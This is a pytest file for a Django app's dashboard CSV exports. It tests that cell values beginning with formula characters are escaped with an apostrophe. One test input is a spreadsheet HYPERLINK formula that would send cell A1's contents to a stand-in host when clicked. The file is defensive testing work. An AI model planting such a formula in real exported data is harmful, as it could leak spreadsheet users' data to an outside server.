"""A dashboard table downloaded as CSV is written by the product's one writer (common.writing):
text that a spreadsheet would run as a formula opens as text."""

import csv
import io

import pytest
from django.urls import reverse

from common.roles import LEADERSHIP
from tests.factories import (
    ActivityFactory,
    AgreementFactory,
    GoalFactory,
    InitiativeFactory,
    InstitutionFactory,
    PartnerFactory,
    UnitFactory,
    user_with_role,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x?x="&A1,"Click")'


@pytest.fixture
def leader(client, settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    institution = InstitutionFactory(code="HOME")
    client.force_login(user_with_role(LEADERSHIP, institutions=[institution]))
    return client, institution


def rows_of(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())  # UTF-8 with BOM, as Excel reads it
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_an_initiative_titled_as_a_formula_downloads_as_text(leader):
    client, institution = leader
    unit = UnitFactory(institution=institution)
    goal = GoalFactory(framework__institution=institution)
    initiative = InitiativeFactory(
        institution=institution, lead_unit=unit, code="INI-F", title=HYPERLINK
    )
    initiative.goals.add(goal)

    for url in [
        reverse("dashboards:goal", args=[goal.pk]),
        reverse("dashboards:unit", args=[unit.pk]),
    ]:
        rows = rows_of(client.get(url, {"csv": "initiatives"}))
        row = next(row for row in rows if row[0] == "INI-F")
        assert row[1] == "'" + HYPERLINK, url


@pytest.mark.parametrize("text", ["+1-2", "-1+2", "@SUM(A1:A2)", "=1+1"])
def test_every_formula_prefix_is_escaped_in_the_downloads(leader, text):
    client, institution = leader
    unit = UnitFactory(institution=institution)
    partner = PartnerFactory(name=text)
    AgreementFactory(unit=unit, partner=partner)
    ActivityFactory(initiative__institution=institution, unit=unit, partner=partner)
    rows = rows_of(client.get(reverse("dashboards:unit", args=[unit.pk]), {"csv": "agreements"}))
    assert rows[1][0] == "'" + text


def test_figures_and_dates_stay_as_they_are(leader):
    client, institution = leader
    unit = UnitFactory(institution=institution)
    AgreementFactory(unit=unit, partner=PartnerFactory(name="Chulalongkorn University"))
    rows = rows_of(client.get(reverse("dashboards:unit", args=[unit.pk]), {"csv": "agreements"}))
    assert rows[1][:4] == [
        "Chulalongkorn University",
        "Memorandum of understanding",
        "2024-04-01",
        "2029-03-31",
    ]
